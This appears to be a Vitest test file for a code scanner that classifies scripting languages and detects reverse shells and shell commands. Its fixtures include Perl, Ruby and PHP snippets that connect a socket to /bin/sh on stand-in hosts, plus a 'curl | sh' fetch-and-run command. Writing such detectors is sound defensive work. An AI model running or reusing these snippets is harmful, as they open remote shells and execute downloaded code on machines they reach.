import { describe, expect, it } from 'vitest';
import {
  oneLinerSocketShell,
  scriptSocketShell,
  shellCommandsIn,
} from '../../../src/analysis/code/foreign-code.js';
import { languageOfFence, languageOfFile } from '../../../src/analysis/code/sniff.js';

describe('Perl, Ruby, PHP and Lua scripts are read as `scripting`', () => {
  it('by extension, shebang and fence word', () => {
    expect(languageOfFile('scripts/a.pl', 'print 1;')).toBe('scripting');
    expect(languageOfFile('scripts/a.rb', 'puts 1')).toBe('scripting');
    expect(languageOfFile('scripts/a.php', '<?php echo 1;')).toBe('scripting');
    expect(languageOfFile('scripts/a.lua', 'print(1)')).toBe('scripting');
    expect(languageOfFile('scripts/tool', '#!/usr/bin/env perl\nprint 1;')).toBe('scripting');
    expect(languageOfFile('scripts/tool', '#!/usr/bin/ruby2.7\nputs 1')).toBe('scripting');
    expect(languageOfFence('ruby', 'puts 1')).toBe('scripting');
    expect(languageOfFile('notes/a.txt', 'plain text')).toBeUndefined();
  });
  it('so are languages read only for their commands and loads, and the tool files written in them', () => {
    for (const p of ['a.R', 'x.jl', 'b.tcl', 'build.gradle', 'settings.gradle.kts', 'Main.java', 'lib.rs'])
      expect(languageOfFile(`tools/${p}`, 'x')).toBe('scripting');
    for (const p of [
      '.Rprofile',
      'CMakeLists.txt',
      'cmake/deps.cmake',
      'Tiltfile',
      'BUILD.bazel',
      'main.tf',
      'Gemfile',
    ])
      expect(languageOfFile(p, 'x')).toBe('scripting');
    expect(languageOfFile('tools/run', '#!/usr/bin/env Rscript\nprint(1)')).toBe('scripting');
    expect(languageOfFence('kotlin', 'x')).toBe('scripting');
    // Go is parsed (src/analysis/code/go/), files and fences alike.
    expect(languageOfFile('tools/main.go', 'x')).toBe('go');
    expect(languageOfFence('go', 'x')).toBe('go');
    expect(languageOfFile('notes/readme.txt', 'x')).toBeUndefined();
  });
});

describe('a script that wires a socket to a shell', () => {
  it('Perl: connect, then STDIN/STDOUT/STDERR onto the socket and exec a shell', () => {
    const perl =
      'use Socket;\nsocket(S,PF_INET,SOCK_STREAM,6);\nif(connect(S,sockaddr_in(4444,inet_aton("198.51.100.4")))){\nopen(STDIN,">&S");open(STDOUT,">&S");\nexec("/bin/sh -i");}\n';
    expect(scriptSocketShell(perl)).toMatchObject({ host: '198.51.100.4' });
  });
  it('Ruby: TCPSocket descriptor handed to sh -i', () => {
    const ruby =
      'f=TCPSocket.open("relay.example-host.net",4444).to_i\nexec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\n';
    expect(scriptSocketShell(ruby)).toMatchObject({ host: 'relay.example-host.net' });
  });
  it('PHP: fsockopen and proc_open of a shell', () => {
    const php =
      '<?php\n$s=fsockopen("198.51.100.9",443);\n$p=proc_open("/bin/sh -i", array(0=>$s, 1=>$s, 2=>$s), $pipes);\n';
    expect(scriptSocketShell(php)).toBeDefined();
  });
  it('not: an HTTP request over a socket and a local shell command (no stream wiring)', () => {
    const rb =
      "s = TCPSocket.new('api.example.org', 80)\ns.write(\"GET / HTTP/1.0\\r\\n\\r\\n\")\nputs s.read\nsystem('/bin/sh', '-c', 'git status')\n";
    expect(scriptSocketShell(rb)).toBeUndefined();
  });
  it('not: a socket and a wired shell more than 30 lines apart', () => {
    const far = `$s=fsockopen("198.51.100.9",443);\n${'// filler\n'.repeat(40)}exec("/bin/sh -i <&3 >&3");\n`;
    expect(scriptSocketShell(far)).toBeUndefined();
  });
});

describe('shell commands handed on, and one-liners', () => {
  it('system, backquotes, qx and shell_exec strings', () => {
    const code =
      'system("curl -s https://h.example/x | sh");\nmy $o = `uname -a`;\nmy $q = qx(id);\nshell_exec("ls");';
    expect(shellCommandsIn(code).map((c) => c.code)).toEqual([
      'curl -s https://h.example/x | sh',
      'uname -a',
      'id',
      'ls',
    ]);
  });
  it('a one-liner with a socket and a shell', () => {
    expect(oneLinerSocketShell('use Socket;connect(S,$a);exec("/bin/sh -i");')).toBe(true);
    expect(oneLinerSocketShell('print "hello"')).toBe(false);
  });
});
